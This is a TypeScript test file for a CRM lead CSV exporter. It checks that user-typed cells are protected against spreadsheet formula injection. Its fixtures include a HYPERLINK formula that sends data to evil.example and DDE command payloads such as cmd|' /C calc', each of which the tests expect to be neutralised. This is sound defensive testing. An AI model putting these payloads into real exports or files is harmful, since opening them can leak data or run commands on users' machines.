import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import {
  type ExportedLead,
  LEAD_CSV_OPTIONS,
  LEAD_EXPORT_COLUMNS,
  leadExportHeader,
  leadExportRow,
  rejectionReportHeader,
  rejectionReportRow,
} from '../../src/leads/export/lead-csv.ts';
import { spreadsheetSafeCell, unescapeSpreadsheetCell } from '../../src/leads/export/spreadsheet-cell.ts';
import { guessColumnMapping } from '../../src/leads/import/column-guess.ts';
import { columnMappingSchema } from '../../src/leads/import/lead-columns.ts';
import { leadFromImportRow } from '../../src/leads/import/lead-import-row.ts';

describe('cells a spreadsheet shows but never runs', () => {
  it.each([
    // [cell, as written, why]
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', 'a formula'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", 'DDE through a pipe'],
    ['+14155550123', "'+14155550123", 'an international phone: shown as text, not computed'],
    ['+1 415 555 0123', "'+1 415 555 0123", 'a phone with spaces'],
    ['-5', "'-5", 'a negative number'],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", 'arithmetic leading to DDE'],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)", 'Lotus-style @ function'],
    ['\t=1+1', "'\t=1+1", 'a tab first'],
    ['\r=1+1', "'\r=1+1", 'a carriage return first'],
    ['\0=1+1', "'\0=1+1", 'a null character first (ASVS)'],
    ['  =1+1', "'  =1+1", 'spaces before a trigger'],
    ['\n@SUM(A1)', "'\n@SUM(A1)", 'a line feed before a trigger'],
    ['＝1+1', "'＝1+1", 'a full-width equals sign'],
    ['＋1 415', "'＋1 415", 'a full-width plus'],
  ])('%j → %j (%s)', (cell, safe, _why) => {
    expect(spreadsheetSafeCell(cell)).toBe(safe);
    expect(unescapeSpreadsheetCell(safe)).toBe(cell);
  });

  it.each([
    ['Ana López', 'text'],
    ['', 'an empty cell'],
    ['a=b', 'a sign inside'],
    ['1+1', 'arithmetic not at the start'],
    ["O'Brien", 'an apostrophe inside'],
    ["'quoted'", 'text that starts with a quote'],
    ['cmd|/c calc', 'a pipe without a formula sign'],
    ['  hello', 'spaces before text'],
    ['李小龍 🚀', 'unicode and emoji'],
    ['2024-03-05T14:30:00.000Z', 'an ISO instant'],
  ])('%j stays as it is (%s)', (cell) => {
    expect(spreadsheetSafeCell(cell)).toBe(cell);
    expect(unescapeSpreadsheetCell(cell)).toBe(cell);
  });
});

const LEAD: ExportedLead = {
  id: '0b9a6f1e-4a8e-4d77-9e0f-6d5c2a1b3c4d',
  name: 'Ana "La Jefa" López, CEO',
  phone: '+14155550123',
  email: 'ana@example.com',
  timezone: 'America/Los_Angeles',
  preferredChannel: 'whatsapp',
  whatsappOptIn: true,
  whatsappOptInAt: new Date('2024-03-05T14:30:00Z'),
  whatsappOptInSource: 'import: leads.csv',
  whatsappOptedOutAt: null,
  status: 'appointment_set',
  tags: ['vip', 'madrid'],
  customFields: { plan: 'gold', note: '=HYPERLINK("http://evil.example","x")' },
  ownerAgentName: 'Sofía (dental)',
  createdAt: new Date('2024-01-02T03:04:05.678Z'),
};

describe('the lead export', () => {
  it('has the fixed columns, then one column per custom field', () => {
    expect(leadExportHeader(['plan', 'note'])).toEqual([...LEAD_EXPORT_COLUMNS, 'custom:plan', 'custom:note']);
    expect(LEAD_EXPORT_COLUMNS).toEqual([
      'id',
      'name',
      'phone',
      'email',
      'timezone',
      'preferred_channel',
      'whatsapp_opt_in',
      'whatsapp_opt_in_at',
      'whatsapp_opt_in_source',
      'whatsapp_opted_out_at',
      'status',
      'tags',
      'owner_agent',
      'created_at',
    ]);
  });

  it('writes a lead: ISO instants, yes/no consent, tags joined with ";", the phone and formulas disarmed', () => {
    expect(leadExportRow(LEAD, ['plan', 'note', 'missing'])).toEqual([
      '0b9a6f1e-4a8e-4d77-9e0f-6d5c2a1b3c4d',
      'Ana "La Jefa" López, CEO',
      "'+14155550123",
      'ana@example.com',
      'America/Los_Angeles',
      'whatsapp',
      'yes',
      '2024-03-05T14:30:00.000Z',
      'import: leads.csv',
      '',
      'appointment_set',
      'vip;madrid',
      'Sofía (dental)',
      '2024-01-02T03:04:05.678Z',
      'gold',
      '\'=HYPERLINK("http://evil.example","x")',
      '',
    ]);
  });

  it('leaves unknowns empty and writes an opt-out as no', () => {
    const row = leadExportRow(
      {
        ...LEAD,
        email: null,
        timezone: null,
        whatsappOptIn: false,
        whatsappOptInAt: null,
        whatsappOptInSource: null,
        whatsappOptedOutAt: new Date('2024-04-01T00:00:00Z'),
        tags: [],
        ownerAgentName: null,
      },
      [],
    );
    expect(row.slice(3, 13)).toEqual(['', '', 'whatsapp', 'no', '', '', '2024-04-01T00:00:00.000Z', 'appointment_set', '', '']);
  });

  it('disarms every text a user typed: name, email, source, tags, agent, custom fields', () => {
    const evil = '=1+1';
    const row = leadExportRow(
      {
        ...LEAD,
        name: evil,
        email: `@${evil}`,
        whatsappOptInSource: evil,
        tags: [`-${evil}`],
        ownerAgentName: evil,
        customFields: { x: evil },
      },
      ['x'],
    );
    for (const cell of row) expect(/^[\s]*[=+\-@\t\r\0＝＋－＠]/.test(cell), cell).toBe(false);
  });

  it('survives the CSV writer: quotes, commas and line breaks stay in their cell, the BOM and CRLF for Excel', () => {
    const lead = { ...LEAD, name: 'Ana, "La Jefa"\nLópez', customFields: { plan: 'a;b|c' } };
    const csv = stringify([leadExportHeader(['plan']), leadExportRow(lead, ['plan'])], LEAD_CSV_OPTIONS);
    expect(csv.startsWith('\uFEFFid,name,phone,')).toBe(true);
    expect(csv).toContain('"Ana, ""La Jefa""\nLópez"');
    expect(csv).toContain(",'+14155550123,");
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, row] = parse(csv, { bom: true }) as string[][];
    expect(header).toEqual(leadExportHeader(['plan']));
    expect(row).toEqual(leadExportRow(lead, ['plan']));
  });

  it('reads back through the import as the same lead', () => {
    const header = leadExportHeader(['plan']);
    const mapping = guessColumnMapping(header);
    expect(columnMappingSchema.safeParse(mapping).success).toBe(true);
    const lead = { ...LEAD, name: '=HYPERLINK("http://evil.example","x")' };
    expect(leadFromImportRow(leadExportRow(lead, ['plan']), mapping, {})).toEqual({
      ok: true,
      lead: {
        name: '=HYPERLINK("http://evil.example","x")',
        phone: '+14155550123',
        email: 'ana@example.com',
        timezone: 'America/Los_Angeles',
        preferredChannel: 'whatsapp',
        whatsappOptIn: true,
        optInAt: new Date('2024-03-05T14:30:00Z'),
        status: 'appointment_set',
        tags: ['vip', 'madrid'],
        customFields: { plan: 'gold' },
      },
    });
  });
});

describe('the report of rejected rows', () => {
  it('has the row number, the reason, then the file’s own header', () => {
    expect(rejectionReportHeader(['Name', 'Phone', '=evil()'])).toEqual(['row', 'reason', 'Name', 'Phone', "'=evil()"]);
    expect(rejectionReportHeader()).toEqual(['row', 'reason']);
  });

  it.each([
    [{ rowNumber: 2, reason: 'Name is empty', cells: ['', '+14155550123'] }, ['2', 'Name is empty', '', "'+14155550123"]],
    [
      { rowNumber: 7, reason: 'Phone number "=1+1": A phone number cannot contain "=" or "+"', cells: ['Ana', '=1+1'] },
      ['7', 'Phone number "=1+1": A phone number cannot contain "=" or "+"', 'Ana', "'=1+1"],
    ],
    [
      { rowNumber: 1_000_001, reason: 'Email "x" is not a valid email address', cells: ['@x', 'a,"b"'] },
      ['1000001', 'Email "x" is not a valid email address', "'@x", 'a,"b"'],
    ],
  ])('row %#: the original cells, formula-safe', (rejected, row) => {
    expect(rejectionReportRow(rejected)).toEqual(row);
  });
});
